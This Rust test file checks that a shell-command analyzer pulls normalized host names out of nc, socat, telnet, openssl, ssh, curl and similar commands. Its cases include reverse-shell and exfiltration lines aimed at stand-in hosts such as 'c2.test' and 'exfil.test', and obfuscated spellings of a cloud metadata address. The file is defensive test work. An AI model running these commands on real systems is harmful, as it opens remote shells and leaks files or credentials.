//! `cmd.hosts` of socket tools and normalized host spellings, through the whole analysis;
//! hard negatives must give no host.

use prempti_shell::analyze;

/// Command → every host it must give, in order.
#[rustfmt::skip]
const CASES: &[(&str, &[&str])] = &[
    // netcat and friends.
    ("nc evil.test 4444", &["evil.test"]),
    ("nc -v -w 3 Evil.Test. 4444", &["evil.test"]),
    ("nc -w3 -vz 10.0.0.1 20-30", &["10.0.0.1"]),
    ("nc -p 1234 -s 10.0.0.5 target.test 80", &["target.test"]),
    ("ncat -e /bin/sh 2852039166 4444", &["169.254.169.254"]),
    ("ncat -c 'bash -i' 0xA9FEA9FE 80", &["169.254.169.254"]),
    ("ncat --proxy Proxy.test:3128 --proxy-type http web.test 80", &["proxy.test", "web.test"]),
    ("ncat --sh-exec 'cat /etc/passwd' -- exfil.test 9", &["exfil.test"]),
    ("netcat -q 1 127.1 25", &["127.0.0.1"]),
    ("nc -u ::1 53", &["::1"]),
    ("nc -l 127.0.0.1 8080", &["127.0.0.1"]),
    ("ncat -l -k 0.0.0.0 9000", &["0.0.0.0"]),
    ("echo hi | nc -N bücher.example 80", &["xn--bcher-kva.example"]),
    ("sudo nc attacker.test 1", &["attacker.test"]),
    // socat.
    ("socat - TCP:evil.test:443", &["evil.test"]),
    ("socat TCP-LISTEN:8080,fork TCP4:backend.test:80", &["backend.test"]),
    ("socat stdio tcp-connect:Mixed.Case.test:22,nodelay", &["mixed.case.test"]),
    ("socat - OPENSSL:secure.test:443,verify=0", &["secure.test"]),
    ("socat - SSL:0251.0376.0251.0376:443", &["169.254.169.254"]),
    ("socat - UDP:[::ffff:a9fe:a9fe]:53", &["169.254.169.254"]),
    ("socat - TCP6:[2001:DB8::1]:80", &["2001:db8::1"]),
    ("socat - SOCKS4A:socks.test:inner.test:80,socksport=1080", &["socks.test", "inner.test"]),
    ("socat - PROXY:proxy.test:inner.test:443,proxyport=3128", &["proxy.test", "inner.test"]),
    ("socat -d -d exec:'bash -li',pty tcp:c2.test:4444", &["c2.test"]),
    // telnet.
    ("telnet towel.blinkenlights.nl", &["towel.blinkenlights.nl"]),
    ("telnet -l root router.test 23", &["router.test"]),
    ("telnet 169.254.43518 80", &["169.254.169.254"]),
    // openssl.
    ("openssl s_client -connect api.test:443", &["api.test"]),
    ("openssl s_client -connect=API.test:443 -servername sni.test", &["api.test"]),
    ("openssl s_client -host h.test -port 443", &["h.test"]),
    ("openssl s_client -connect [::1]:443", &["::1"]),
    ("openssl s_client -quiet pos.test:443", &["pos.test"]),
    ("openssl s_client -proxy proxy.test:8080 -connect t.test:443", &["proxy.test", "t.test"]),
    ("echo | openssl s_time -connect timed.test:443 -new", &["timed.test"]),
    // ssh forwardings, jumps, stdio forwarding (the destination comes first).
    ("ssh -L 8080:internal.test:80 bastion.test", &["bastion.test", "internal.test"]),
    ("ssh -L 127.0.0.1:8080:Db.Internal.test:5432 -N me@jump.test", &["jump.test", "db.internal.test"]),
    ("ssh -NR 9000:localhost:22 me@relay.test", &["relay.test", "localhost"]),
    ("ssh -R [::1]:9000:[::ffff:a9fe:a9fe]:80 h.test", &["h.test", "169.254.169.254"]),
    ("ssh -L8080/web.test/80 gw.test", &["gw.test", "web.test"]),
    ("ssh -D 1080 -f -N socks.test", &["socks.test"]),
    ("ssh -R 9000 remote.test", &["remote.test"]),
    ("ssh -L 8080:/var/run/docker.sock dock.test", &["dock.test"]),
    ("ssh -J admin@jump1.test:2222,jump2.test target.test", &["jump1.test", "target.test", "jump2.test"]),
    ("ssh -o ProxyJump=jump.test -o HostName=Real.test alias", &["alias", "jump.test", "real.test"]),
    ("ssh -W inner.test:22 gw.test", &["gw.test", "inner.test"]),
    ("ssh webhook.site.", &["webhook.site"]),
    ("ssh user@[::ffff:127.0.0.1]", &["127.0.0.1"]),
    // Normalized hosts of URLs and scp-like operands.
    ("curl http://2852039166/latest/meta-data/", &["169.254.169.254"]),
    ("curl http://169.254.169.254./latest", &["169.254.169.254"]),
    ("curl 'http://[::ffff:a9fe:a9fe]/latest'", &["169.254.169.254"]),
    ("curl https://webhook.site./abc", &["webhook.site"]),
    ("wget https://ｅｘａｍｐｌｅ．ｃｏｍ/x", &["example.com"]),
    ("curl https://bücher.example/", &["xn--bcher-kva.example"]),
    ("scp f deploy@Prod.Test.:/srv/", &["prod.test"]),
    ("git clone git@GitHub.com.:o/r", &["github.com"]),
    // Hard negatives: no host.
    ("nc -l 8080", &[]),
    ("nc -lvnp 4444", &[]),
    ("nc -l -p 8080", &[]),
    ("ncat -lk 9000-9010", &[]),
    ("nc -U /tmp/sock", &[]),
    ("socat TCP-LISTEN:80 -", &[]),
    ("socat tcp-listen:80,reuseaddr,fork EXEC:/bin/cat", &[]),
    ("socat - UNIX-CONNECT:/run/x.sock", &[]),
    ("socat OPENSSL-LISTEN:443,cert=c.pem -", &[]),
    ("pip install foo==1.2.3", &[]),
    ("echo 1.2.3 2852039166 0x7f.1", &[]),
    ("cargo update -p serde --precise 1.0.200", &[]),
    ("npm version 1.2.3", &[]),
    ("curl --resolve example.test:443:127.0.0.1 --connect-to a.test:443:b.test:443 -V", &[]),
    ("openssl x509 -in cert.pem -noout -text", &[]),
    ("openssl s_client -servername sni.test", &[]),
    ("telnet", &[]),
    ("nc", &[]),
    ("socat", &[]),
    ("ssh -L 8080 x.test", &["x.test"]),
    ("nc $HOST 80", &[]),
    ("telnet \"$(cat host)\" 23", &[]),
];

#[test]
fn socket_tool_hosts() {
    let mut failures = Vec::new();
    for (command, want) in CASES {
        let got = analyze(command, Some("/p")).hosts;
        if got != *want {
            failures.push(format!("{command:?}\n  want {want:?}\n   got {got:?}"));
        }
    }
    assert!(
        failures.is_empty(),
        "{} of {} cases failed:\n{}",
        failures.len(),
        CASES.len(),
        failures.join("\n")
    );
}

#[test]
fn hostile_socket_arguments_do_not_panic() {
    let long = "a.".repeat(4000);
    let inputs = [
        format!("nc {long} 80"),
        format!("socat - TCP:{long}:80"),
        format!("socat - TCP:[{long}"),
        format!("ssh -L {} x", ":".repeat(5000)),
        format!("ssh -L {} x", "[".repeat(5000)),
        format!("openssl s_client -connect {}", "9".repeat(5000)),
        format!("telnet 0x{} 23", "f".repeat(5000)),
        "socat - TCP:".to_owned(),
        "socat - SOCKS4::::".to_owned(),
        "ssh -J , x".to_owned(),
        "ssh -o ProxyJump".to_owned(),
        "openssl s_client -connect".to_owned(),
        "nc -p".to_owned(),
    ];
    for input in &inputs {
        let a = analyze(input, None);
        assert!(a.hosts.iter().all(|h| h.len() <= prempti_shell::MAX_HOST));
    }
}
